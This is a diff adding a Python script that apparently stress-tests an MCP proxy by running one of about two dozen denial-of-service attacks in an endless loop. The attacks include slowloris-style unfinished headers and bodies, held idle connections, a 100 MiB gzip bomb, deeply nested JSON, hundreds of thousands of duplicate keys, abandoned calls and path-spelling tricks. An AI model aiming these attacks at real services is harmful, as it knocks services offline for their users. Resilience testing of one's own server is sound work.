@@ -1,0 +1,384 @@
+"""What one caller can do to a proxy, a program of its own, so that its work is not its victims'.
+
+    python attacks.py NAME --url http://127.0.0.1:8080/mcp --admin http://127.0.0.1:9090
+
+It goes on until it is killed, and leaves as rudely as that.
+"""
+
+import argparse
+import asyncio
+import contextlib
+import gzip
+import itertools
+import json
+import random
+import resource
+import uuid
+from collections.abc import Awaitable, Callable
+from typing import Any, Final
+from urllib.parse import urlsplit
+
+import aiohttp
+
+Message = dict[str, Any]
+
+MODERN: Final = "2026-07-28"
+LEGACY: Final = "2025-06-18"
+META: Final = "io.modelcontextprotocol/"
+BOTH: Final = "application/json, text/event-stream"
+MIB: Final = 1024 * 1024
+WORKERS: Final = 8
+AGAIN_SECONDS: Final = 0.02
+
+
+class Attacker:
+    """One caller with one credential, unless an attack makes up others."""
+
+    def __init__(self, url: str, admin: str, http: aiohttp.ClientSession) -> None:
+        self.url, self.admin, self.http = url, admin, http
+        self.token = f"attacker-{uuid.uuid4().hex}"
+        self._ids = itertools.count(1)
+
+    def message(self, method: str, params: Message) -> Message:
+        """A request."""
+        return {"jsonrpc": "2.0", "id": next(self._ids), "method": method, "params": params}
+
+    def call(self, tool: str, **arguments: object) -> Message:
+        """A call of a tool."""
+        return self.message("tools/call", {"name": tool, "arguments": arguments})
+
+    def modern(self, method: str, capabilities: Message | None = None, **params: Any) -> Message:
+        """A modern request."""
+        meta = {
+            f"{META}protocolVersion": MODERN,
+            f"{META}clientCapabilities": {"elicitation": {}} if capabilities is None else capabilities,
+            f"{META}clientInfo": {"name": "attacker", "version": "1"},
+        }
+        return self.message(method, {"_meta": meta, **params})
+
+    def headers(self, message: object = None, session: str | None = None, **more: str) -> dict[str, str]:
+        """What belongs to a message."""
+        headers = {
+            "Accept": BOTH,
+            "Content-Type": "application/json",
+            "Authorization": f"Bearer {self.token}",
+        }
+        if session is not None:
+            headers["Mcp-Session-Id"] = session
+        if isinstance(message, dict) and "_meta" in message.get("params", {}):
+            headers |= {"MCP-Protocol-Version": MODERN, "Mcp-Method": message["method"]}
+            if "name" in message["params"]:
+                headers["Mcp-Name"] = message["params"]["name"]
+        return headers | more
+
+    async def post(self, message: object, session: str | None = None, **headers: str) -> bytes:
+        """One POST and its whole answer."""
+        body = message if isinstance(message, bytes) else json.dumps(message).encode()
+        async with self.http.post(
+            self.url,
+            data=body,
+            headers=self.headers(message, session, **headers),
+            allow_redirects=False,
+        ) as response:
+            return await response.read()
+
+    async def open(self, capabilities: Message | None = None) -> str | None:
+        """A handshake; the id of the session, if there was one to be had."""
+        params = {
+            "protocolVersion": LEGACY,
+            "capabilities": capabilities or {},
+            "clientInfo": {"name": f"attacker {uuid.uuid4().hex}", "version": "1"},
+        }
+        message = self.message("initialize", params)
+        async with self.http.post(self.url, json=message, headers=self.headers(message)) as response:
+            await response.read()
+            return response.headers.get("Mcp-Session-Id")
+
+    def head(self, length: int, **more: str) -> bytes:
+        """The head of a POST by hand."""
+        parts = urlsplit(self.url)
+        headers = self.headers(None, **more) | {"Host": parts.netloc, "Content-Length": str(length)}
+        lines = [f"POST {parts.path} HTTP/1.1", *(f"{name}: {value}" for name, value in headers.items())]
+        return "\r\n".join([*lines, "", ""]).encode()
+
+    async def connect(self, url: str | None = None) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
+        """A connection."""
+        parts = urlsplit(url or self.url)
+        return await asyncio.open_connection(parts.hostname, parts.port, limit=MIB)
+
+
+async def leaving_calls(attacker: Attacker) -> None:
+    """Long calls, each left at once."""
+    await leave_behind(attacker, json.dumps(attacker.call("slow", seconds=2)).encode())
+
+
+async def leaving_batches(attacker: Attacker) -> None:
+    """Batches of long calls, left at once."""
+    await leave_behind(attacker, json.dumps([attacker.call("slow", seconds=2) for _ in range(100)]).encode())
+
+
+async def leave_behind(attacker: Attacker, body: bytes) -> None:
+    """Send this, and leave."""
+    _, writer = await attacker.connect()
+    writer.write(attacker.head(len(body)) + body)
+    await writer.drain()
+    await asyncio.sleep(0.05)
+    writer.transport.abort()
+
+
+async def slow_readers(attacker: Attacker) -> None:
+    """Large answers, of which a little is read, and then no more."""
+    body = json.dumps(attacker.call("big", size=20 * MIB)).encode()
+    reader, writer = await attacker.connect()
+    writer.write(attacker.head(len(body)) + body)
+    with contextlib.suppress(asyncio.TimeoutError):
+        async with asyncio.timeout(5):
+            await reader.readexactly(1000)
+            await asyncio.sleep(1)
+    writer.transport.abort()
+
+
+async def capabilities(attacker: Attacker) -> None:
+    """Capabilities as large as they may be, others each time, and larger ones."""
+    fat: Message = {"experimental": {uuid.uuid4().hex: {"x": "x" * 60_000}}}
+    await attacker.open(fat)
+    await attacker.post(attacker.modern("tools/list", fat))
+    await attacker.post(attacker.modern("tools/list", {"experimental": {"x": {"x": "x" * 3 * MIB}}}))
+
+
+async def questions(attacker: Attacker) -> None:
+    """Calls in which the server asks 20,000 questions."""
+    await attacker.post(attacker.modern("tools/call", name="ask", arguments={"number": 20_000}))
+
+
+async def parked_calls(attacker: Attacker) -> None:
+    """Calls that wait for answers that never come."""
+    await attacker.post(attacker.modern("tools/call", name="ask", arguments={"number": 1}))
+
+
+async def made_up_credentials(attacker: Attacker) -> None:
+    """Credentials that the server refuses, new ones each time, with and without a handshake."""
+    attacker.token = f"made-up-{uuid.uuid4().hex}"
+    await attacker.open()
+    await attacker.post(attacker.call("increment"))
+    await attacker.post(attacker.modern("tools/call", name="increment", arguments={}))
+
+
+async def malformed_tokens(attacker: Attacker) -> None:
+    """Credentials over which the server fails."""
+    attacker.token = f"malformed-{random.randrange(10)}"
+    await attacker.open()
+    await attacker.post(attacker.call("increment"))
+
+
+async def no_credentials(attacker: Attacker) -> None:
+    """Calls without a credential, which the server sends to its login page."""
+    await attacker.post(attacker.call("increment"), Authorization="")
+    await attacker.post(attacker.modern("tools/call", name="increment", arguments={}), Authorization="")
+
+
+async def large_heads(attacker: Attacker) -> None:
+    """Heads as large as they may be, and larger."""
+    for size in (15_000, 16_000, 100_000):
+        more = {f"X-Fat-{number}": "x" * min(size, 8000) for number in range(max(1, size // 8000))}
+        await attacker.post(attacker.call("increment"), **more)
+
+
+async def unfinished_heads(attacker: Attacker) -> None:
+    """Heads that go on and never end."""
+    reader, writer = await attacker.connect()
+    writer.write(attacker.head(10)[:-2])
+    for number in range(60):
+        writer.write(f"X-{number}: {'x' * 15_000}\r\n".encode())
+    with contextlib.suppress(asyncio.TimeoutError):
+        async with asyncio.timeout(3):
+            await reader.read(1)
+    writer.transport.abort()
+
+
+async def unfinished_bodies(attacker: Attacker) -> None:
+    """Bodies of 4 MiB but for their last byte."""
+    reader, writer = await attacker.connect()
+    writer.write(attacker.head(4 * MIB) + b" " * (4 * MIB - 1))
+    with contextlib.suppress(asyncio.TimeoutError):
+        async with asyncio.timeout(10):
+            await reader.read(1)
+    writer.transport.abort()
+
+
+async def silent_connections(attacker: Attacker) -> None:
+    """Connections that say nothing, as many as there may be."""
+    _, writer = await attacker.connect()
+    held.append(writer)
+
+
+async def silent_admin_connections(attacker: Attacker) -> None:
+    """The same at the admin listener."""
+    _, writer = await attacker.connect(attacker.admin)
+    held.append(writer)
+
+
+held: list[asyncio.StreamWriter] = []
+
+
+async def unknown_ids(attacker: Attacker) -> None:
+    """DELETE and GET with ids that nobody knows."""
+    for method in ("DELETE", "GET"):
+        headers = attacker.headers(session=uuid.uuid4().hex)
+        async with attacker.http.request(method, attacker.url, headers=headers):
+            pass
+
+
+async def listeners(attacker: Attacker) -> None:
+    """Listeners to a thousand resources each, of which the server tells."""
+    uris = [f"counter://{number}" for number in range(1000)]
+    message = attacker.modern("subscriptions/listen", notifications={"resourceSubscriptions": uris})
+    body = json.dumps(message).encode()
+    reader, writer = await attacker.connect()
+    routing = {"MCP-Protocol-Version": MODERN, "Mcp-Method": "subscriptions/listen"}
+    writer.write(attacker.head(len(body), **routing) + body)
+    await attacker.post(attacker.modern("tools/call", name="tell", arguments={"number": 1000}))
+    with contextlib.suppress(asyncio.TimeoutError):
+        async with asyncio.timeout(2):
+            while await reader.read(MIB):
+                pass
+    writer.transport.abort()
+
+
+async def unread_streams(attacker: Attacker) -> None:
+    """GET streams that nobody reads, and a server that says much on them."""
+    session = await attacker.open()
+    if session is None:
+        return
+    _, writer = await attacker.connect()
+    head = attacker.head(0, **{"Mcp-Session-Id": session, "MCP-Protocol-Version": LEGACY})
+    writer.transport.pause_reading()
+    writer.write(head.replace(b"POST", b"GET", 1))
+    for _ in range(10):
+        await attacker.post(attacker.call("tell", number=100, size=10_000), session)
+    writer.transport.abort()
+
+
+async def many_keys(attacker: Attacker) -> None:
+    """4 MiB of keys in `_meta`, and elsewhere, and twice the same."""
+    meta = ",".join(f'"a/{number}":1' for number in range(250_000))
+    for params in (
+        f'{{"name":"increment","arguments":{{}},"_meta":{{{meta}}}}}',
+        f'{{"name":"increment","arguments":{{{meta}}}}}',
+        f'{{{meta},"name":"increment","arguments":{{}}}}',
+    ):
+        body = f'{{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{params}}}'
+        await attacker.post(body.encode())
+
+
+async def deep_json(attacker: Attacker) -> None:
+    """4 MiB of brackets."""
+    await attacker.post(b"[" * (4 * MIB - 100))
+    await attacker.post(b'{"a":' * (MIB // 2))
+
+
+async def gzip_bombs(attacker: Attacker) -> None:
+    """A kilobyte that would be a hundred megabytes."""
+    await attacker.post(BOMB, **{"Content-Encoding": "gzip"})
+
+
+BOMB: Final = gzip.compress(bytes(100 * MIB))
+
+
+async def spellings(attacker: Attacker) -> None:
+    """The endpoint's path as a server may understand it, too."""
+    origin = attacker.url.removesuffix("/mcp")
+    for path in ("/mcp;x", "/MCP", "/mcp%20", "/x/..;/mcp", "//mcp", "/mcp/.", "/%6dcp"):
+        message = attacker.call("slow", seconds=2)
+        async with attacker.http.post(origin + path, json=message, headers=attacker.headers(message)):
+            pass
+
+
+async def flooding_server(attacker: Attacker) -> None:
+    """Calls that the server answers with very many events of empty lines."""
+    await attacker.post(attacker.call("flood"))
+
+
+async def names(attacker: Attacker) -> None:
+    """Methods, tools, clients, headers and paths of new names each time."""
+    word = uuid.uuid4().hex
+    await attacker.post(attacker.message(f"method/{word}", {}), **{f"X-{word}": word})
+    await attacker.post(attacker.modern(f"method/{word}", name=word))
+    await attacker.post(attacker.message("ping", {}), **{"MCP-Protocol-Version": word})
+    async with attacker.http.request(word[:8].upper(), f"{attacker.url}/{word}", headers=attacker.headers()):
+        pass
+
+
+async def handshakes(attacker: Attacker) -> None:
+    """Client sessions without end, none of which is used."""
+    await attacker.open()
+
+
+Attack = Callable[[Attacker], Awaitable[None]]
+# How many of them at once; 8 where nothing is said.
+ATTACKS: Final[dict[Attack, int]] = {
+    leaving_calls: 20,
+    leaving_batches: 8,
+    slow_readers: 15,
+    capabilities: 8,
+    questions: 4,
+    parked_calls: 16,
+    made_up_credentials: 16,
+    malformed_tokens: 8,
+    no_credentials: 8,
+    large_heads: 8,
+    unfinished_heads: 200,
+    unfinished_bodies: 100,
+    silent_connections: 20,
+    silent_admin_connections: 20,
+    unknown_ids: 8,
+    listeners: 40,
+    unread_streams: 16,
+    many_keys: 4,
+    deep_json: 4,
+    gzip_bombs: 4,
+    spellings: 8,
+    flooding_server: 2,
+    names: 8,
+    handshakes: 8,
+}
+BY_NAME: Final = {attack.__name__: attack for attack in ATTACKS}
+
+
+async def attack(name: str, url: str, admin: str) -> None:
+    """Do this until somebody ends it."""
+    chosen = BY_NAME[name]
+    connector = aiohttp.TCPConnector(limit=0)
+    timeout = aiohttp.ClientTimeout(total=30)
+    jar = aiohttp.DummyCookieJar()
+    async with aiohttp.ClientSession(connector=connector, timeout=timeout, cookie_jar=jar) as http:
+
+        async def again_and_again() -> None:
+            attacker = Attacker(url, admin, http)
+            attacker.token = token
+            while True:
+                try:
+                    await chosen(attacker)
+                except (aiohttp.ClientError, OSError, TimeoutError, asyncio.IncompleteReadError):
+                    await asyncio.sleep(AGAIN_SECONDS)
+
+        token = f"attacker-{uuid.uuid4().hex}"
+        async with asyncio.TaskGroup() as tasks:
+            for _ in range(ATTACKS[chosen]):
+                tasks.create_task(again_and_again())
+
+
+def main() -> None:
+    """The command line."""
+    parser = argparse.ArgumentParser()
+    parser.add_argument("name", choices=BY_NAME)
+    parser.add_argument("--url", required=True)
+    parser.add_argument("--admin", required=True)
+    arguments = parser.parse_args()
+    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
+    asyncio.run(attack(arguments.name, arguments.url, arguments.admin))
+
+
+if __name__ == "__main__":
+    main()
